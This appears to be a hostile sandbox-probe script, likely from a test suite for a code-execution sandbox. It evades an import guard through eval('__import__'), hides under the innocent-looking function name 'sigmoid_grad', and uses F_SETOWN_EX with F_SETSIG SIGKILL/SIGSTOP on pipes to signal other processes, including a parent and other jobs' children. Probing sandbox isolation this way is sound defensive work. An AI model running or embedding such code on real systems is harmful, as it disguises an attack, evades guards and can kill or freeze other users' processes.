"""Hostile: F_SETOWN_EX (owner = a thread, a process or a process group: the warm parent's,
the next job's child's), F_SETSIG SIGKILL / SIGSTOP and O_ASYNC on a pipe, then a write."""
_m = lambda name: eval("__import__(name)", {"name": name})  # slips past the import guard: the sandbox must hold
os = _m("os")
fcntl = _m("fcntl")
signal = _m("signal")
struct = _m("struct")
time = _m("time")

F_SETSIG, F_SETOWN_EX = 10, 15
F_OWNER_TID, F_OWNER_PID, F_OWNER_PGRP = 0, 1, 2


def sigmoid_grad(x):
    me = os.getpid()
    for _ in range(200):  # the next job's child is forked just after this one started
        if len([p for p in os.listdir("/proc") if p.isdigit()]) >= 3:
            break
        time.sleep(0.01)
    outcomes = []
    others = sorted(int(p) for p in os.listdir("/proc") if p.isdigit() and int(p) != me)
    for pid in others:
        for kind, name in ((F_OWNER_TID, "tid"), (F_OWNER_PID, "pid"), (F_OWNER_PGRP, "pgrp")):
            for sig in (signal.SIGKILL, signal.SIGSTOP):
                read_end, write_end = os.pipe()
                try:
                    fcntl.fcntl(read_end, F_SETOWN_EX, struct.pack("ii", kind, pid))
                    outcomes.append(f"F_SETOWN_EX {name}({pid}): DONE")
                except OSError as exc:
                    outcomes.append(f"F_SETOWN_EX {name}({pid}): {type(exc).__name__}")
                try:
                    fcntl.fcntl(read_end, F_SETSIG, sig)
                    fcntl.fcntl(read_end, fcntl.F_SETFL, fcntl.fcntl(read_end, fcntl.F_GETFL) | os.O_ASYNC)
                except OSError:
                    pass
                os.write(write_end, b"x")
    time.sleep(0.1)
    raise RuntimeError(" | ".join(outcomes) or "no other process")
